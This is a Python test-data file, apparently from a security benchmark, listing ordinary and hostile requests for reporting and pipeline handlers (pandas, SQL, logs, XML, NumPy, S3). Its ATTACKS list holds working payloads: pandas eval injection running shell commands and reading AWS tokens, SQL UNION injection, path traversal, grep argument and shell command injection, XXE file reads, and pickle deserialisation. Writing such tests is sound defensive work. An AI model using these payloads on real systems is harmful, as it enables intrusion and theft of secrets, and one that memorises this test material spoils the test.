"""Reports and pipelines with pandas, Excel, CSV, streams, logs and settings."""

import pickle
import struct
from xml.sax.saxutils import escape

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eighth import (
    ARTICLE,
    FIRM,
    PEOPLE,
    POSTSCRIPT,
    REVIEW,
    SNIPPET,
    TICKET,
    api,
    b64,
    bus,
    firehose,
    http,
    kinesis,
    put,
    subscription,
    zipped,
)

SECRET = "report-secret-6407"


def _summary(**body: object) -> dict[str, object]:
    return http("POST", "/summary", body)


def _sql(**query: str) -> dict[str, object]:
    return api("GET", "/sales", query=query)


def _saved(name: str) -> dict[str, object]:
    return http("GET", f"/reports/{name}", ids={"name": name})


def _search(pattern: str) -> dict[str, object]:
    return http("POST", "/logs", {"pattern": pattern})


def _rotate(report: str) -> dict[str, object]:
    return bus("Rotate", {"report": report, "day": "2024-05-02"}, source="app.cron")


def _titles(*titles: str, head: str = "") -> dict[str, object]:
    return http(
        "POST",
        "/feed",
        f"<?xml version='1.0'?>{head}<rss>{''.join(f'<item><title>{one}</title></item>' for one in titles)}</rss>",
    )


def _sheet(*rows: list[object]) -> str:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    lines = "".join(
        "<row>"
        + "".join(f'<c t="inlineStr"><is><t>{escape(str(cell))}</t></is></c>' for cell in row)
        + "</row>"
        for row in rows
    )
    return b64(
        zipped(
            {
                "[Content_Types].xml": f'<Types xmlns="{package}/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{office}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{office}.worksheet+xml"/></Types>',
                "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
                f'Type="{kinds}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
                "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{kinds}"><sheets>'
                '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
                "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship '
                f'Id="rId1" Type="{kinds}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{lines}</sheetData></worksheet>',
            }
        )
    )


def _npy(kind: str, shape: str, data: bytes) -> dict[str, object]:
    head = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return {
        "model": "m-1",
        "features": b64(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data),
    }


class _Call:
    def __init__(self, function: object, *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> object:
        return self.function, self.arguments


REQUESTS = {
    "summary": [
        _summary(),
        _summary(group="product", value="price"),
        _summary(group="day", filter={"column": "region", "value": "North"}),
        _summary(filter={"column": "product", "value": "O'Neill's Jam"}),
    ],
    "computed": [
        {"left": "amount", "operator": "*", "right": "price"},
        {"left": "price", "operator": "/", "right": "1.19"},
        {"left": "amount", "right": "2.5", "name": "it's double"},
    ],
    "sales_sql": [
        _sql(region="North"),
        _sql(region="West", day="2024-05-02"),
        _sql(region="Nord & Süd (alle); x"),
    ],
    "export": [
        api(
            "POST",
            "/export",
            {
                "columns": ["name", "note"],
                "rows": [{"name": PEOPLE[0], "note": TICKET}, {"name": "=1+1", "x": 1}],
                "name": "It's May (1)",
            },
        ),
        api("POST", "/export", {"columns": ["ü;ö", "b"], "rows": [{"b": SNIPPET}, {"ü;ö": None}]}),
        api("POST", "/export", {"columns": ["a"], "rows": [], "name": 'x"\r\ny'}),
    ],
    "saved_report": [_saved("sales"), _saved("it's (1)"), _saved("no such; report")],
    "read_upload": [
        {"name": "people.csv", "content": b64('name,town\nO\'Brien,Cork\n"Smith, ""Joe""",Bath\n')},
        {
            "name": "Größen.csv",
            "delimiter": ";",
            "content": b64("\ufeffname;note\nÅsa;" + REVIEW.replace('"', "'") + "\n"),
        },
        {
            "name": "plan.xlsx",
            "content": _sheet(["day", "text"], ["2024-05-02", "it's =SUM(A1)"], ["", "日本"]),
        },
    ],
    "workbook": [
        {"title": "Q1/Q2: it's [new]", "rows": [["name", "sum"], [PEOPLE[0], 12.5], [FIRM, None]]},
        {"rows": [['=HYPERLINK("https://example.org")', "@x", "-1"], [SNIPPET, True, 3]]},
        {"title": "空", "rows": []},
    ],
    "transform": [
        firehose({"ts": 1714600000, "user": {"name": PEOPLE[3]}, "path": "/a?b=c'd", "text": TICKET}),
        firehose("not json", {"path": "/../x", "text": ARTICLE}),
        firehose({"user": None, "text": POSTSCRIPT}),
    ],
    "clicks": [
        kinesis(
            {"path": "/shop/o'neill?q=1", "agent": "Mozilla/5.0 (X11; Linux x86_64)"},
            {"path": "/shop/o'neill"},
        ),
        kinesis({"path": "/a/../b;c=d", "shard": 3, "agent": "curl/8.1 -- it's"}),
        kinesis({"path": "", "shard": "2"}, {}),
    ],
    "logs_filter": [
        subscription(
            "START RequestId: 1",
            "[ERROR] KeyError: 'name' ... File \"/var/task/app.py\", line 3",
            "Task timed out after 3.00 seconds",
        ),
        subscription("select * from users where id = '1' -- took 12 ms", "all fine", group="/ecs/it's-db"),
        subscription(
            "Exception: ${jndi:x} isn't {a} or %s", '127.0.0.1 - - "GET /../../etc/passwd HTTP/1.1" 404'
        ),
    ],
    "logs_search": [
        _search("ERROR"),
        _search("it's"),
        _search("zoë"),
        _search("code=7;x"),
    ],
    "rotate": [_rotate("sales"), _rotate("no-such_report.2024")],
    "settings": [
        {"kind": "ini", "text": "[main]\nname = it's\nurl = http://localhost:8000/a?b=c\n[x y]\nk: v"},
        {"kind": "toml", "text": 'title = "O\'Brien"\nday = 2024-05-02\n[owner]\ntags = [\'a\', "b"]\n'},
        {"kind": "yaml", "text": 'a: &x [1, 2]\nb: *x\ntext: "{{ y }} ${z}"\n'},
        {"kind": "json", "text": '{"__class__": "x", "py/object": null, "$ref": "#/a", "it\'s": [1]}'},
    ],
    "sax_titles": [
        _titles("It&apos;s new", "日本"),
        _titles("<![CDATA[a < b & c]]>"),
        _titles("&firm; 2024", head='<!DOCTYPE rss [<!ENTITY firm "O&#39;Neill">]>'),
    ],
    "array": [
        _npy("<f8", "(2,)", struct.pack("<2d", 1.5, 2)),
        _npy("<i4", "(1, 3)", struct.pack("<3i", 1, 2, 3)),
        _npy("<U3", "(1,)", "it's"[:3].encode("utf-32-le")),
    ],
    "monthly": [
        {"start": "2024-01-31", "end": "2024-03-01"},
        {"start": "2023-12-01", "end": "2023-12-31"},
        {"start": "2024-05-02", "end": "2024-01-01"},
    ],
    "s3_partition": [
        put("sales/region=North/day=2024-05-01/part-0.csv"),
        put("sales/all (1).csv"),
        put("sales/product=Müsli/x'y.csv", "raw/region=South & East/a b.csv"),
    ],
}
# What comes all day.
ORDINARY = {
    "summary": [
        _summary(group="day", value="amount"),
        _summary(group="product", filter={"column": "day", "value": "2024-05-02"}),
        _summary(filter={"column": "product", "value": "Müsli"}),
    ],
    "computed": [{"left": "price", "right": 1.23}, {"left": "amount", "operator": "+", "right": "price"}],
    "sales_sql": [_sql(region="South"), _sql(region="North", day="2024-05-01")],
    "export": [
        api(
            "POST",
            "/export",
            {
                "columns": ["id", "name"],
                "rows": [{"id": 1, "name": "Maria Rossi"}, {"id": 2, "name": "John Smith"}],
                "name": "customers",
            },
        )
    ],
    "saved_report": [_saved("2024-05")],
    "read_upload": [
        {"name": "stock.csv", "content": b64("sku,count\nA1,4\nB2,17\n")},
        {"name": "hours.xlsx", "content": _sheet(["who", "hours"], ["Maria", 38.5])},
    ],
    "workbook": [{"title": "May", "rows": [["day", "sales"], ["2024-05-01", 120], ["2024-05-02", 98.5]]}],
    "transform": [
        firehose(
            {"ts": 1714600000, "user": {"name": "maria"}, "path": "/cart", "text": "checkout"},
            {"ts": 1714600001, "path": "/"},
        )
    ],
    "clicks": [
        kinesis(
            {"path": "/", "agent": "Mozilla/5.0 (iPhone)"},
            {"path": "/cart?step=2"},
            {"path": "/cart?step=3", "shard": 1},
        )
    ],
    "logs_filter": [
        subscription("INIT_START Runtime Version: python:3.13.v12", "END RequestId: 1"),
        subscription("ERROR 500 GET /api/orders 1203ms"),
    ],
    "logs_search": [_search("INFO"), _search("2024-05-02")],
    "rotate": [_rotate("2024-05-01")],
    "settings": [
        {"kind": "yaml", "text": "port: 8080\nhosts:\n  - a.example.org\n"},
        {"kind": "json", "text": '{"debug": false, "limits": {"cpu": 2}}'},
    ],
    "sax_titles": [_titles("Spring tea", "Shop in Cork")],
    "monthly": [{"start": "2024-02-01", "end": "2024-06-30"}],
    "s3_partition": [put("sales/region=North/part-1.parquet"), put("sales/day=2024-05-02/region=West/0.csv")],
}
for _handler, _events in ORDINARY.items():
    REQUESTS[_handler] += _events
ATTACKS = [
    Attack(
        "eval, pandas",
        "saved_report",
        _saved("stolen"),
        SECRET,
        before=[
            (
                "summary",
                _summary(
                    filter={
                        "column": "region",
                        "value": "x\" or @pandas.io.common.os.system('cp /tmp/reports/budget-secret.csv /tmp/reports/data/stolen.csv') == \"0",
                    }
                ),
            )
        ],
    ),
    Attack(
        "eval, pandas",
        "computed",
        {
            "left": "@pandas.io.common.os.popen('cat /tmp/reports/budget-secret.csv').read()",
            "operator": "#",
            "right": "amount",
        },
        SECRET,
    ),
    Attack(
        "eval, pandas",
        "computed",
        {
            "left": "@pandas.read_csv('/tmp/reports/budget-secret.csv').to_csv()",
            "operator": "#",
            "right": "amount",
        },
        SECRET,
    ),
    Attack(
        "eval, pandas",
        "computed",
        {
            "left": "@frame.__class__.__init__.__globals__['sys'].modules['os'].environ['AWS_SESSION_TOKEN']",
            "operator": "#",
            "right": "amount",
        },
        "not-a-real-token",
    ),
    Attack(
        "eval, pandas",
        "computed",
        {
            "left": "@database.execute('select salary from salaries').fetchall()[0][0]",
            "operator": "#",
            "right": "amount",
        },
        SECRET,
    ),
    Attack(
        "SQL, union", "sales_sql", _sql(region="x' UNION SELECT name, salary, 1 FROM salaries --"), SECRET
    ),
    Attack(
        "SQL, union",
        "sales_sql",
        _sql(region="' UNION SELECT 'a', salary, 1 FROM salaries, sales WHERE '' = '", day="2024-05-02"),
        SECRET,
    ),
    Attack(
        "SQL, union",
        "sales_sql",
        _sql(
            region="'/**/union/**/select+group_concat(salary),1,2/**/from/**/salaries/**/where'1'!='".replace(
                "select+", "select/**/"
            )
        ),
        SECRET,
    ),
    Attack("path, dots", "saved_report", _saved("../budget-secret"), SECRET),
    Attack("path, dots", "saved_report", _saved("./../data/.././budget-secret"), SECRET),
    Attack(
        "command, argument",
        "logs_search",
        _search("-r -h -e 6407 /tmp/reports"),
        SECRET,
    ),
    Attack(
        "command, argument",
        "logs_search",
        _search("report- /tmp/reports/budget-secret.csv -h"),
        SECRET,
    ),
    Attack(
        "command, argument",
        "logs_search",
        _search("-f/dev/null -hv -- /tmp/reports/budget-secret.csv"),
        SECRET,
    ),
    Attack("command, argument", "logs_search", _search("--include=*.csv -rhe boss /tmp/reports/"), SECRET),
    Attack(
        "command, separator",
        "rotate",
        _rotate("sales.csv;cat ../budget-secret.csv>../out/errors.txt;exit;"),
        SECRET,
    ),
    Attack("command, substitution", "rotate", _rotate("$(cat ../budget-secret.csv | tr '\\n' ' ')"), SECRET),
    Attack("path, dots", "rotate", _rotate("../budget-secret"), SECRET),
    Attack(
        "XXE, file",
        "sax_titles",
        _titles("&x;", head='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///tmp/reports/budget-secret.csv">]>'),
        SECRET,
    ),
    Attack(
        "XXE, file",
        "sax_titles",
        _titles(
            "a &b; c", head='<!DOCTYPE rss [<!ENTITY b PUBLIC "-//b//" "/tmp/reports/budget-secret.csv">]>'
        ),
        SECRET,
    ),
    Attack(
        "XXE, address",
        "sax_titles",
        _titles("&x;", head='<!DOCTYPE rss [<!ENTITY x SYSTEM "@INSIDE@/internal/x">]>'),
        "internal-token-4711",
    ),
    Attack(
        "deserialisation, numpy",
        "array",
        {
            "features": b64(
                pickle.dumps(
                    _Call(eval, "__import__('numpy').array([open('/tmp/reports/budget-secret.csv').read()])")
                )
            )
        },
        SECRET,
    ),
    Attack(
        "deserialisation, numpy",
        "array",
        _npy(
            "|O",
            "(1,)",
            b"cbuiltins\neval\n(S'[open(\"/tmp/reports/budget-secret.csv\").read()]'\ntR.".replace(
                b"eval\n(S'[", b'eval\n(S\'__import__("numpy").array(['
            ).replace(b"()]'", b"()])'"),
        ),
        SECRET,
    ),
    Attack(
        "SQL, key of a bucket",
        "s3_partition",
        put("x/region=' UNION SELECT salary FROM salaries -- /a.csv"),
        SECRET,
    ),
    Attack(
        "SQL, key of a bucket",
        "s3_partition",
        put(
            "a/0 UNION SELECT salary FROM salaries WHERE name='boss/x.csv".replace("name='boss", "name=boss")
        ),
        SECRET,
    ),
    Attack(
        "SQL, key of a bucket",
        "s3_partition",
        put("a/(select salary from salaries) like 'report-secret%' or region=zzz/x.csv"),
        "M\\u00fcsli",
    ),
]
